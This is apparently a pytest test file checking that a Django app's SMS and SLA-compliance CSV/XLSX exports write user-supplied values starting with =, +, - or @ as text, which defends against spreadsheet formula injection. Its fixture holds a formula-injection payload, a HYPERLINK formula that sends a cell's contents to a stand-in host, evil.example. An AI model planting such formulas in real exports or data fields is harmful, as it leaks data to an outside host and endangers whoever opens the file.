"""Exports opened in a spreadsheet (CSV, XLSX) never carry a formula typed by a user: a cell
that starts with ``=``, ``+``, ``-`` or ``@`` (a billing account label, a sender's name, a
customer's name) is written as text (CSV: a leading ``'``; XLSX: a string cell), so Excel or
LibreOffice does not run ``=HYPERLINK(…)`` / ``=WEBSERVICE(…)`` for the manager who opens it."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
import time_machine

from esup_saas.offers.sms import services
from esup_saas.offers.sms.models import BillingAccount
from tests.offers.sms.conftest import build_sms_world
from tests.servicedesk.test_sla_compliance import _tickets, manager_of, utc

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")'


@pytest.fixture
def sms(world):
    return build_sms_world(world)


@pytest.fixture
def evil_send(sms):
    account = BillingAccount.objects.create(organisation=sms.world.customer, label=EVIL)
    owner = sms.world.owner
    owner.first_name, owner.last_name = "+cmd", "@SUM(1)"
    owner.save()
    services.message_create(
        organisation=sms.world.customer,
        recipient_type="free",
        value="0600002001",
        content="Bonjour",
        actor=owner.user,
        account=account,
    )
    return sms


def _csv_rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8").lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def _cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows[1:] for cell in row]


@pytest.mark.parametrize("url", ["/sms/c1/rapports/?format=csv", "/sms/c1/rapports/envois/"])
def test_sms_csv_exports_write_formulas_as_text(evil_send, as_user, url):
    cells = _cells(_csv_rows(as_user(evil_send.world.owner).get(url)))
    assert "'" + EVIL in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)


@pytest.mark.parametrize(
    "url", ["/sms/c1/rapports/?format=xlsx", "/sms/c1/rapports/envois/?format=xlsx"]
)
def test_sms_xlsx_exports_write_formulas_as_strings(evil_send, as_user, url):
    response = as_user(evil_send.world.owner).get(url)
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert EVIL in [c.value for c in cells]
    assert all(c.data_type != "f" for c in cells)


def test_sla_compliance_csv_writes_formulas_as_text(world, as_user):
    world.customer.name = "=1+2"
    world.customer.save()
    _tickets(world)
    with time_machine.travel(utc(2026, 2, 1, 12, 0), tick=False):
        response = as_user(manager_of(world.provider, "mgr1")).get(
            "/console/sla/reports/compliance/?from=2026-01&to=2026-01&format=csv"
        )
    cells = _cells(_csv_rows(response))
    assert "'=1+2" in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
